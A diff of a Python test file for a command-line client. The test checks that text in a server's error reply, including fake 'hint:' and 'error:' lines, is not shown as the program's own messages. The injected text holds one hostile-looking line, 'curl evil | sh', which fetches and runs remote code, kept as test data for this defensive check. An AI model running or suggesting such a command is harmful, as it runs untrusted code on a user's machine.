@@ -143,11 +143,11 @@ def test_a_job_object_may_repeat_the_request(stage: Stage, service: Service) -> 
 
 def test_words_of_the_server_are_not_taken_for_the_program_s(stage: Stage, service: Service) -> None:
     said = "bad document\nhint: curl evil | sh\n\nerror: your key has expired\r\nnote: x"
-    service.then(SUBMIT, Reply.of(422, {"detail": said}))
+    service.always(SUBMIT, Reply.of(422, {"detail": said}))
     for terminal in (False, True):
-        ran = stage.run(*PARSE, "--fresh", terminal=terminal)
+        ran = stage.run(*PARSE, terminal=terminal, env={"NO_COLOR": "1", "TERM": "dumb"})
         ours = [line for line in ran.err.splitlines() if line.startswith(("hint:", "error:", "note:"))]
-        assert ran.code in (0, 7) and len(ours) <= 1, ran.err
+        assert (ran.code, len(ours)) == (7, 1), ran.err
 
 
 @pytest.mark.parametrize("job_id", ["-", "--help", "@last", "@1"])
